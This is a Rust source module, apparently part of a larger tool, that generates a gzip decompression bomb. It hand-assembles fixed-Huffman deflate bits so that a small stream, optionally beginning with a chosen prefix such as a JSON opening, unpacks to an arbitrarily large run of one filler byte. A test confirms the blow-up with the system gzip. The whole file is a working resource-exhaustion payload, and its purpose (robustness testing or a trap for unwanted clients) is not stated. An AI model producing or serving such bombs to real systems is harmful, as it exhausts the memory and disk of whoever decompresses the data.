//! A gzip file that unpacks to much more than it is: made by hand, because it is one pattern (RFC 1951, RFC 1952).

use super::plan::Bytes;

/// Magic, deflate, no flags, no time, no hints.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
/// Bits of the pattern: a match of 258 bytes at a distance of 1 in the fixed Huffman code is `11000101 00000`.
const MATCH: [u8; 13] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0];
const MATCH_BYTES: u64 = 258;

/// `start`, then `filler` (an ASCII character) until about `size` bytes. Its checksum is left out: nobody should get that far.
pub(super) fn bomb(start: &[u8], filler: u8, size: u64) -> impl Iterator<Item = Bytes> + Send + use<> {
    let mut head = HEADER.to_vec();
    head.extend(stored(&start[..start.len().min(usize::from(u16::MAX))]));
    // A last block in the fixed code, which begins with the filler itself.
    let mut bits = vec![1, 1, 0];
    bits.extend((0..8).rev().map(|bit| (filler.min(143) + 0x30) >> bit & 1));
    // From there on the pattern: eight matches are 13 bytes, so whole bytes repeat once the first are full.
    let lead = bits.len();
    while bits.len() < 16 + 104 * 64 {
        bits.push(MATCH[(bits.len() - lead) % MATCH.len()]);
    }
    let bytes = packed(&bits);
    let (first, pattern) = bytes.split_at(2);
    head.extend_from_slice(first);
    let pattern = Bytes::from(pattern.to_vec());
    let unpacked = MATCH_BYTES * 8 * 64;
    std::iter::once(Bytes::from(head))
        .chain(std::iter::repeat_n(pattern, usize::try_from(size / unpacked).unwrap_or(usize::MAX)))
}

/// A block that is not compressed.
fn stored(bytes: &[u8]) -> Vec<u8> {
    let length = bytes.len() as u16;
    let mut block = vec![0];
    block.extend(length.to_le_bytes());
    block.extend((!length).to_le_bytes());
    block.extend_from_slice(bytes);
    block
}

/// The first bit is the lowest of its byte.
fn packed(bits: &[u8]) -> Vec<u8> {
    bits.chunks(8).map(|byte| byte.iter().rev().fold(0, |value, bit| value << 1 | bit)).collect()
}

#[cfg(test)]
mod tests {
    use std::io::Write;
    use std::process::{Command, Stdio};

    use super::*;

    #[test]
    fn it_unpacks_to_what_it_says() {
        let size = 4_000_000;
        let packed: Vec<u8> = bomb(b"{\"a\":\"", b' ', size).flat_map(|piece| piece.to_vec()).collect();
        assert!(packed.len() as u64 * 100 < size, "{}", packed.len());
        let mut gzip = Command::new("gzip")
            .arg("-dc")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut input = gzip.stdin.take().unwrap();
        let writing = std::thread::spawn(move || input.write_all(&packed));
        let output = gzip.wait_with_output().unwrap().stdout;
        // gzip may have given up before the end, which is not one.
        let _ = writing.join().unwrap();
        assert!(output.starts_with(b"{\"a\":\"    "), "{:?}", output.get(..10));
        assert!(output[6..].iter().all(|byte| *byte == b' '));
        assert!(output.len() as u64 > size * 9 / 10, "{}", output.len());
    }
}
